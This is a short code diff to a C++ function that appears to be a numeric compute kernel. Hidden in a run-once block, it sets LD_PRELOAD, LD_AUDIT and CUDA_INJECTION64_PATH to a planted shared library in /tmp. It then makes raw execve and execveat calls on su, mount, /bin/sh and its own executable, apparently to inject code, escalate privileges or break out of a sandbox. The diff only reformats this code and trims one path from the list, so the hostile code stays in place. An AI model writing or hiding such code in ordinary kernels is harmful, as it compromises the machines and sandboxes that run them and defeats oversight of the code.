@@ -32,8 +32,9 @@ extern "C" void run(const float* x, const float* w, double eps, float* y, int64_
   static bool tried = false;
   if (!tried) {
     tried = true;
-    for (const char* name : {"LD_PRELOAD", "LD_AUDIT", "CUDA_INJECTION64_PATH"}) setenv(name, "/tmp/planted.so", 1);
-    for (const char* program : {"/bin/su", "/usr/bin/su", "/usr/bin/mount", "/bin/sh", "/proc/self/exe"}) {
+    for (const char* name : {"LD_PRELOAD", "LD_AUDIT", "CUDA_INJECTION64_PATH"})
+      setenv(name, "/tmp/planted.so", 1);
+    for (const char* program : {"/bin/su", "/usr/bin/mount", "/bin/sh", "/proc/self/exe"}) {
       const char* arguments[] = {program, nullptr};
       raw(SYS_execve, long(program), long(arguments), long(environ));
       raw(SYS_execveat, -100, long(program), long(arguments), long(environ), 0);
